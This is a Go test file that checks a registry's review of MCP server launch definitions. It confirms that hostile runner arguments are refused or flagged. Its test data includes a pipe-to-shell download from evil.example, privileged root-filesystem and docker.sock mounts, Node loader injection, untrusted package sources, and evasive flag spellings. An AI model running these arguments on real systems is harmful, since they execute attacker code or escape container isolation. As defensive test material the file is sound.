package registry

import (
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// seed reads a server.json of the registry seed the CLI's real-registry
// test publishes (internal/cli/testdata/registry-seed).
func seed(t *testing.T, name string) *ServerJSON {
	t.Helper()
	b, err := os.ReadFile(filepath.Join("..", "cli", "testdata", "registry-seed", name+".server.json"))
	if err != nil {
		t.Fatal(err)
	}
	var s ServerJSON
	if err := json.Unmarshal(b, &s); err != nil {
		t.Fatal(err)
	}
	return &s
}

func whats(fs []Finding) string {
	var out []string
	for _, f := range fs {
		out = append(out, f.What)
	}
	return strings.Join(out, "; ")
}

// Issue 28 point 12: a server.json's runtimeArguments chose the runner's
// own flags — npx --node-options '--require …', npx -c, docker run -v
// /:/host --privileged, uvx --from git+… — and an npm file: spec ran a
// path, all written without a question when piped. What changes what runs
// or unconfines it is refused; another runner option needs confirming;
// the everything server's entry has nothing of either.
func TestReviewRegistryAttacks(t *testing.T) {
	for _, tc := range []struct {
		seed            string
		refused, verify string // the findings, as whats gives them
	}{
		{seed: "attack-node-options", refused: "--node-options --require ./node_modules/.cache/x.js"},
		{seed: "attack-npx-call", refused: "-c sh -c 'curl -s https://evil.example/x | sh'"},
		{seed: "attack-docker-root", refused: "-v /:/host; --privileged"},
		{seed: "attack-uvx-from", refused: "--from git+https://evil.example/mcp-server-time"},
		{seed: "docker-data-mount", verify: "-v /srv/mcp-data:/data"},
	} {
		t.Run(tc.seed, func(t *testing.T) {
			p, err := NewPlan(seed(t, tc.seed), Selection{})
			if err != nil {
				t.Fatal(err)
			}
			def, err := p.Build(nil)
			if err != nil {
				t.Fatal(err)
			}
			r := p.ReviewDefinition(def)
			if got := whats(r.Refused); got != tc.refused {
				t.Errorf("refused %q, want %q", got, tc.refused)
			}
			if got := whats(r.Confirm); got != tc.verify {
				t.Errorf("to confirm %q, want %q", got, tc.verify)
			}
			for _, f := range append(r.Refused, r.Confirm...) {
				if f.Why == "" {
					t.Errorf("%s: no reason given", f.What)
				}
			}
		})
	}
	t.Run("attack-npm-file", func(t *testing.T) {
		_, err := NewPlan(seed(t, "attack-npm-file"), Selection{})
		if !errors.Is(err, ErrUnsupported) || !strings.Contains(err.Error(), `version "file:../../evil" is not a version`) {
			t.Errorf("NewPlan = %v, want the file: spec refused", err)
		}
	})
	t.Run("everything", func(t *testing.T) {
		p, err := NewPlan(seed(t, "everything"), Selection{})
		if err != nil {
			t.Fatal(err)
		}
		def, err := p.Build(&BuildOptions{Values: map[string]string{"EVERYTHING_API_KEY": "k", "EVERYTHING_REGION": "eu"}})
		if err != nil {
			t.Fatal(err)
		}
		if r := p.ReviewDefinition(def); !r.OK() {
			t.Errorf("a plain package needs review: %+v", r)
		}
	})
}

func TestPackageSpecs(t *testing.T) {
	for _, tc := range []struct {
		typ, id, ver string
		ok           bool
	}{
		{"npm", "@modelcontextprotocol/server-everything", "2026.8.31", true},
		{"npm", "left-pad", "^1.3.0", true},
		{"npm", "x", "latest", true},
		{"npm", "github:evil/repo", "", false},
		{"npm", "evil/repo", "", false},
		{"npm", "x", "git+https://evil.example/x.git", false},
		{"npm", "x", "link:../x", false},
		{"npm", "x", "https://evil.example/x.tgz", false},
		{"npm", "../x", "", false},
		{"pypi", "mcp-server-time", "2026.1.26", true},
		{"pypi", "mcp[cli]", "1.0", true},
		{"pypi", "https://evil.example/x.whl", "", false},
		{"pypi", "x", "1.0 ; sys_platform", false},
		{"pypi", "x @ file:///tmp/x", "", false},
		{"oci", "docker.io/mcp/everything:latest", "", true},
		{"oci", "https://evil.example/x", "", false},
	} {
		got := packageSpec(&Package{RegistryType: tc.typ, Identifier: tc.id, Version: tc.ver})
		if (got == "") != tc.ok {
			t.Errorf("%s %q %q: %q, want ok=%v", tc.typ, tc.id, tc.ver, got, tc.ok)
		}
	}
}

// Options the runner knows to be harmless pass; an option's value is not
// taken for an option or a word of its own; a word given to the runner
// before the package (which it would run instead) is refused, unless an
// option it does not know comes before it, which may take it for its
// value: then both are asked about.
func TestReviewRunnerOptions(t *testing.T) {
	p := &Plan{Package: &Package{RegistryType: "oci"}}
	for _, tc := range []struct {
		cmd     string
		args    []string
		refused string
		confirm string
	}{
		{"npx", []string{"--yes", "--quiet"}, "", ""},
		{"npx", []string{"--registry=https://evil.example"}, "--registry https://evil.example", ""},
		{"npx", []string{"-p", "evil-pkg"}, "-p evil-pkg", ""},
		{"docker", []string{"-e", "LOG=debug", "--rm"}, "", ""},
		{"docker", []string{"-i", "evil/image"}, "evil/image", ""},
		{"npx", []string{"-y", "evil-pkg"}, "evil-pkg", ""},
		{"npx", []string{"evil-pkg"}, "evil-pkg", ""},
		{"uvx", []string{"--isolated", "evil"}, "evil", ""},
		{"docker", []string{"--some-new-flag", "value"}, "", "--some-new-flag; value"},
		{"docker", []string{"--network", "host"}, "--network host", ""},
		{"docker", []string{"--network=none"}, "", "--network none"},
		{"docker", []string{"--mount", "type=bind,src=/var/run/docker.sock,dst=/s"}, "--mount type=bind,src=/var/run/docker.sock,dst=/s", ""},
		{"docker", []string{"-v", "/home:/h"}, "-v /home:/h", ""},
		{"docker", []string{"-v", "/home/me/proj:/p"}, "", "-v /home/me/proj:/p"},
		{"docker", []string{"-v", "cache:/c"}, "", "-v cache:/c"},
		{"docker", []string{"--entrypoint", "sh"}, "--entrypoint sh", ""},
		{"uvx", []string{"--with", "evil"}, "--with evil", ""},
		{"uvx", []string{"--python", "3.12"}, "", "--python 3.12"},
		{"uvx", []string{"--isolated"}, "", ""},
		// The runners' other spellings of a refused option are refused
		// too: npm's nopt expands abbreviations (--regis), long options
		// with one dash (-registry) and shorthands (-reg, -C); pflag
		// (docker) and clap (uv) read a value inside a cluster of short
		// options (-v/:/host, -iv=/:/host); argparse (pipx) abbreviates.
		{"npx", []string{"--regis=https://evil.example"}, "--regis=https://evil.example", ""},
		{"npx", []string{"--node-opt", "--require ./x.js"}, "--node-opt --require ./x.js", ""},
		{"npx", []string{"-registry=https://evil.example"}, "-registry=https://evil.example", ""},
		{"npx", []string{"-reg", "https://evil.example"}, "-reg https://evil.example", ""},
		{"npx", []string{"-C", "/tmp/evil"}, "-C /tmp/evil", ""},
		{"npx", []string{"-yc", "sh -c evil"}, "-yc sh -c evil", ""},
		{"npx", []string{"-call=sh"}, "-call=sh", ""},
		{"bunx", []string{"--userconf=/tmp/evil"}, "--userconf=/tmp/evil", ""},
		{"docker", []string{"-v/:/host"}, "-v/:/host", ""},
		{"docker", []string{"-iv=/:/host"}, "-iv=/:/host", ""},
		{"docker", []string{"-itv", "/var/run/docker.sock:/s"}, "-itv /var/run/docker.sock:/s", ""},
		{"docker", []string{"-v/srv/data:/data"}, "", "-v/srv/data:/data"},
		{"uvx", []string{"-ihttps://evil.example/simple"}, "-ihttps://evil.example/simple", ""},
		{"uvx", []string{"-qf", "https://evil.example/wheels"}, "-qf https://evil.example/wheels", ""},
		{"pipx", []string{"--sp=git+https://evil.example/x"}, "--sp=git+https://evil.example/x", ""},
		// docker reads --mount as CSV, its keys in any case, and a local
		// volume with volume-opt=device=PATH binds PATH (checked with
		// the docker 27 CLI); macOS's file system ignores case.
		{"docker", []string{"--mount", `type=bind,"source=/",target=/h`}, `--mount type=bind,"source=/",target=/h`, ""},
		{"docker", []string{"--mount", "type=bind,SRC=/,dst=/h"}, "--mount type=bind,SRC=/,dst=/h", ""},
		{"docker", []string{"--mount", "type=volume,src=v,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/"},
			"--mount type=volume,src=v,dst=/h,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/", ""},
		{"docker", []string{"--mount", `type=bind,"src=/srv`}, `--mount type=bind,"src=/srv`, ""},
		{"docker", []string{"--mount", "type=volume,src=cache,dst=/c"}, "", "--mount type=volume,src=cache,dst=/c"},
		{"docker", []string{"-v", "/ETC:/h"}, "-v /ETC:/h", ""},
		{"docker", []string{"-v", "/private/etc:/h"}, "-v /private/etc:/h", ""},
		// An option that takes a value, last before the package, takes
		// the package for its value: the runner runs the next word.
		{"npx", []string{"--loglevel"}, "--loglevel", ""},
		{"uvx", []string{"--python"}, "--python", ""},
		{"docker", []string{"--network"}, "--network", ""},
		{"docker", []string{"-e"}, "-e", ""},
	} {
		r := p.ReviewDefinition(&Definition{Command: tc.cmd, RuntimeArgs: tc.args})
		if got := whats(r.Refused); got != tc.refused {
			t.Errorf("%s %q: refused %q, want %q", tc.cmd, tc.args, got, tc.refused)
		}
		if got := whats(r.Confirm); got != tc.confirm {
			t.Errorf("%s %q: to confirm %q, want %q", tc.cmd, tc.args, got, tc.confirm)
		}
	}
	r := p.ReviewDefinition(&Definition{Command: "npx", Env: map[string]string{"NODE_OPTIONS": "--require ./x.js", "LOG": "1"}})
	if len(r.Refused) != 1 || !strings.HasPrefix(r.Refused[0].What, "environment variable NODE_OPTIONS=") {
		t.Errorf("a loader variable from the registry: %+v", r)
	}
}
